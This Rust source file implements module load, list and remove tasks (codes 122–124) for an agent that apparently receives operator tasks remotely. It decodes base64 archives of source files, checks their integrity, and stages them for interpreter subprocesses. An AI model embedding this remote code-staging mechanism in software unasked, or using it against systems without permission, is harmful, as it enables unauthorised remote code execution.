//! Module-repository tasks: load (122), list (123), remove (124).
//!
//! The type-122 body is `"{name}|{base64(codec(archive_json))}"` where the
//! archive is a JSON map of relative path to file source. Loaded modules
//! materialize under the per-session scratch directory and reach interpreter
//! subprocesses through the search-path environment variable.

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD as BASE64;

use crate::agent::Agent;
use crate::codec;
use crate::error::{TaskError, TransferError};
use crate::modules::SourceArchive;
use crate::tasks::TaskKind;

impl Agent {
    /// Task 122: decode, CRC-verify, and materialize a module archive.
    pub(crate) async fn handle_module_load(&self, data: &str, id: &str) -> Result<(), TaskError> {
        let (name, packed) = data
            .split_once('|')
            .ok_or_else(|| TaskError::Malformed("expected \"name|base64\" module body".into()))?;

        let raw = BASE64.decode(packed.trim())?;
        let decoded = codec::decode(&raw)?;
        if !decoded.crc_ok {
            return Err(TransferError::IntegrityCheck.into());
        }

        let archive = SourceArchive::from_json(&decoded.data)?;
        let count = self.modules.load(name, archive).await?;
        self.responses
            .send(
                TaskKind::ModuleLoad.code(),
                &format!("successfully imported {name} ({count} files)"),
                id,
            )
            .await?;
        Ok(())
    }

    /// Task 123: empty body lists every module; otherwise one module's files.
    pub(crate) async fn handle_module_list(&self, data: &str, id: &str) -> Result<(), TaskError> {
        let name = data.trim();
        let body = if name.is_empty() {
            let mut out = String::from("loaded modules:\n");
            for (name, files) in self.modules.list_all().await {
                out.push_str(&format!("---- {name} ----\n"));
                for file in files {
                    out.push_str(&file);
                    out.push('\n');
                }
            }
            out
        } else {
            let mut out = format!("---- {name} ----\n");
            for file in self.modules.list(name).await? {
                out.push_str(&file);
                out.push('\n');
            }
            out
        };

        self.responses
            .send(TaskKind::ModuleList.code(), &body, id)
            .await?;
        Ok(())
    }

    /// Task 124: delete the archive and its materialized files.
    pub(crate) async fn handle_module_remove(&self, data: &str, id: &str) -> Result<(), TaskError> {
        let name = data.trim();
        self.modules.remove(name).await?;
        self.responses
            .send(
                TaskKind::ModuleRemove.code(),
                &format!("successfully removed module {name}"),
                id,
            )
            .await?;
        Ok(())
    }
}

/// Render a type-122 body; used by tests and kept next to its parser.
#[cfg(test)]
pub(crate) fn build_module_body(name: &str, archive_json: &[u8]) -> String {
    let packed = BASE64.encode(codec::encode(archive_json).unwrap());
    format!("{name}|{packed}")
}
